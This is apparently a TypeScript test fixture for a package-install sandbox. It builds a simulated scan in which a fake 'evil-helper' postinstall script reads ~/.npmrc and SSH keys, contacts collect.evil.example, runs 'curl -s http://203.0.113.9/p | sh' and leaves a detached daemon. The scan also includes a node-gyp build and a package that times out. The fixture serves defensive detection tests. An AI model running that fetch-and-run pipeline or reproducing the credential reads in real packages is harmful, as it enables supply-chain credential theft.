/**
 * A realistic scan for the report tests: a credential stealer with a shell pipeline and a
 * daemon, a native addon built with node-gyp, a script that hangs, and 23 quiet packages.
 */
import { ChainBuilder, HOME, type ScriptBuilder } from '../rules/chain-builder.js';
import type { SessionChain } from '../../src/session/types.js';

export interface Scan {
  chain: SessionChain;
  stealer: ScriptBuilder;
  addon: ScriptBuilder;
  slow: ScriptBuilder;
}

export function buildScan(): Scan {
  const b = new ChainBuilder();

  const stealer = b.pkg('evil-helper', '2.1.0').script('postinstall', 'node install.js', { wrapperExecs: ['node', 'install.js'] });
  const node = stealer.root;
  const pkgDir = stealer.pkg.dir;
  for (let i = 0; i < 14; i += 1) stealer.file(node, 'read', `${pkgDir}/lib/part${i}.js`);
  stealer.file(node, 'read', `${HOME}/.npmrc`);
  stealer.file(node, 'read', `${HOME}/.ssh/id_rsa`, { result: 'ENOENT' });
  stealer.connect(node, '/var/run/nscd/socket', null, { family: 'unix', protocol: null, result: 'ENOENT' });
  stealer.dns(node, 'collect.evil.example', ['192.0.2.1']);
  stealer.connect(node, '192.0.2.1', 443, { hostname: 'collect.evil.example' });
  stealer.connect(node, '192.0.2.1', 443, { hostname: 'collect.evil.example' });
  const sh = stealer.process(['/bin/sh', '-c', 'curl -s http://203.0.113.9/p | sh'], { exe: '/bin/sh' });
  const curl = stealer.process(['curl', '-s', 'http://203.0.113.9/p'], { parent: sh, exitCode: 7 });
  stealer.connect(curl, '203.0.113.9', 80);
  stealer.process(['sh'], { parent: sh, exe: '/bin/sh' });
  const daemon = stealer.process(['node', '-e', 'setInterval(() => {}, 1000)'], {
    detached: true,
    outlivedScript: true,
    killedBySandbox: true,
    exitCode: null,
    signal: 'SIGKILL',
  });
  stealer.file(daemon, 'write', `${HOME}/.config/evil/state.json`);
  stealer.file(node, 'write', `${pkgDir}/build/result.json`);
  stealer.run.endedAt = stealer.run.startedAt + 0.42;

  const addon = b.pkg('native-addon', '1.4.0').script('install', 'node-gyp rebuild', { implicit: true });
  const gyp = addon.root;
  addon.exec(gyp, ['node', '/usr/local/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], '/usr/local/bin/node');
  for (let i = 0; i < 30; i += 1) addon.file(gyp, 'write', `${HOME}/.cache/node-gyp/20.20.2/include/node/h${i}.h`);
  const make = addon.process(['make', 'BUILDTYPE=Release', '-C', 'build'], { parent: gyp });
  const gxx = addon.process(['g++', '-o', 'Release/obj.target/addon/src/addon.o', '../src/addon.cc', '-I', '/home/alex/.cache/node-gyp/20.20.2/include/node'], { parent: make });
  for (let i = 0; i < 6; i += 1) addon.file(gxx, 'read', `${addon.pkg.dir}/src/addon${i}.h`);
  addon.file(gxx, 'read', '/usr/include/stdio.h', { result: 'ENOENT' });
  addon.file(make, 'create', `${addon.pkg.dir}/build/Release/addon.node`, { mode: '755' });
  addon.run.endedAt = addon.run.startedAt + 12.5;
  addon.pkg.session.suppressed.files = 312;

  const slow = b.pkg('slow-pkg', '0.3.0', { location: 'node_modules/native-addon/node_modules/slow-pkg' }).script('postinstall', 'node wait.js', {
    wrapperExecs: ['node', 'wait.js'],
    outcome: 'timeout',
    exitCode: null,
    signal: 'SIGKILL',
    reason: 'exceeded the 60 s limit',
  });
  slow.root.killedBySandbox = true;
  slow.root.exitCode = null;
  slow.root.signal = 'SIGKILL';
  slow.run.endedAt = slow.run.startedAt + 60;

  for (let i = 0; i < 23; i += 1) b.pkg(`quiet-${i}`, '1.0.0');
  return { chain: b.build(), stealer, addon, slow };
}
